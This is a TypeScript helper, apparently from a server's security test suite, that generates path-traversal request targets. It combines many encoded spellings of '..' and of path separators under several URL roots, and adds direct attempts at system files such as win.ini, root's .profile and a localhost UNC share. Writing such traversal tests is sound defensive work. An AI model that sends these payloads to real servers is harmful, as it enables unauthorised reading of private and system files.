/** Spellings of "one folder up" and of what lies between folders, by which servers have been fooled. */
const UP = [
  '..',
  '%2e%2e',
  '%2E%2E',
  '.%2e',
  '%2e.',
  '%252e%252e',
  '..%00',
  '%c0%ae%c0%ae',
  '%uff0e%uff0e',
  '..;',
  '....',
  '%e2%80%a5',
  '%EF%BC%8E%EF%BC%8E',
];
const BETWEEN = ['/', '%2f', '%2F', '%5c', '\\', '//', '%252f', '/./', '%c0%af', '%u2215', '%E2%88%95'];
const ROOTS = ['/', '/media/', '/media/original/', '/assets/', '/rpc/'];

/** Request targets that would reach the file at the absolute path `target` if any of them were taken for a path. */
export function traversals(target: string): string[] {
  const parts = target.slice(1).split('/');
  const list = ROOTS.flatMap((root) =>
    UP.flatMap((up) => BETWEEN.map((slash) => `${root}${[...Array(8).fill(up), ...parts].join(slash)}`)),
  );
  const whole = (root: string) => [
    ...[`${root}${target}`, `${root}/${target}`, `${root}${encodeURIComponent(target)}`, `${root}file://${target}`],
    ...[`${root}file:${target}`, `${root}%00${target}`, `${root}~root/.profile`, `${root}C:\\windows\\win.ini`],
    ...[`${root}\\\\127.0.0.1\\c$${target}`, `${root}${target.slice(1)}::$DATA`, `${root}?dir=${target}`, `${root}..`],
  ];
  return [...list, ...ROOTS.flatMap(whole)];
}
